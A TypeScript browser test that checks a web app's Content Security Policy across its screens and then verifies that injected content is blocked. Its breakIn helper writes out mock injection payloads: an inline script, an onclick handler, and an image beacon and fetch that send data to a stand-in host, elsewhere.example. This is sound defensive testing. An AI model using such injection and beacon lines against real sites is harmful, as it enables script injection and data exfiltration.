/** The page under its own policy, in a real browser: every screen works within it, and what comes from elsewhere does not. */
import type { BrowserContext, Page } from "playwright-core";
import { expect, test, vi } from "vitest";
import { places } from "../../central/web/src/shell/places.ts";
import { pageFolder } from "../../scripts/build-page.ts";
import { startRandomCentre } from "../central-api/random/random-centre.ts";
import { openBrowser, openScreen } from "./browser.ts";

/** What the policy stopped, and which hosts were asked, from now on. */
async function watch(context: BrowserContext) {
  const seen = { stopped: [] as string[], origins: new Set<string>() };
  await context.exposeBinding("stoppedByPolicy", (_source, what: string) => void seen.stopped.push(what));
  const report = "stoppedByPolicy(event.effectiveDirective + ' ' + event.blockedURI)";
  await context.addInitScript({ content: `addEventListener("securitypolicyviolation", (event) => ${report})` });
  context.on("request", (request) => void seen.origins.add(new URL(request.url()).origin));
  return seen;
}

/** What somebody who got a piece of text into the page would try. */
const breakIn = (page: Page): Promise<void> =>
  page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "document.title = 'stolen'";
    const image = document.createElement("img");
    image.src = "https://elsewhere.example/?what=was-seen";
    const link = document.createElement("a");
    link.setAttribute("onclick", "document.title = 'stolen'");
    document.body.append(script, image, link);
    link.click();
    fetch("https://elsewhere.example/").catch(() => undefined);
  });

test("every screen works within the policy and asks nobody else; what is put into it does neither", async () => {
  const centre = await startRandomCentre({ webDir: pageFolder });
  const page = await openScreen(await openBrowser());
  const context = page.context();
  const seen = await watch(context);
  await page.goto(centre.url);
  await page.getByLabel("Tên đăng nhập").waitFor();
  const [name = "", value = ""] = (await centre.headersOf("administrator")).cookie?.split("=") ?? [];
  await context.addCookies([{ name, value, url: centre.url }]);
  const more = ["/account", `/events/${centre.ids.incident}`, "/cameras/cam-1", "/cameras/cam-1/live", "/wall/screen"];
  for (const path of [...places.map(({ href }) => href), ...more]) {
    await page.goto(`${centre.url}${path}`);
    await page.locator("main").waitFor();
    await page.waitForTimeout(1_000); // pictures and the live stream come
  }
  expect(seen.stopped).toEqual([]);
  expect([...seen.origins]).toEqual([centre.url]);

  const title = await page.title();
  await breakIn(page);
  await vi.waitFor(() => expect(seen.stopped.length).toBeGreaterThanOrEqual(4), { timeout: 10_000 });
  expect(seen.stopped.join("\n")).toMatch(/script-src-elem inline/);
  expect(seen.stopped.join("\n")).toMatch(/script-src-attr inline/);
  expect(seen.stopped.join("\n")).toMatch(/img-src https:\/\/elsewhere\.example/);
  expect(seen.stopped.join("\n")).toMatch(/connect-src https:\/\/elsewhere\.example/);
  expect(await page.title()).toBe(title);
}, 240_000);
